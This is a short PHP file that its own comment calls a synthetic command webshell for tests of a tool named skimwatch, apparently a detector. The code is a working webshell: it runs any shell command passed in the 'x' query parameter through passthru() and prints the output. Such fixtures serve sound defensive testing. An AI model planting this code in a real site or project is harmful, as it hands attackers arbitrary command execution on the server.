<?php
// Synthetic command webshell for skimwatch tests.
header('Content-Type: text/plain');
if (isset($_GET['x'])) {
    echo "<pre>";
    passthru($_GET['x'] . ' 2>&1');
    echo "</pre>";
}
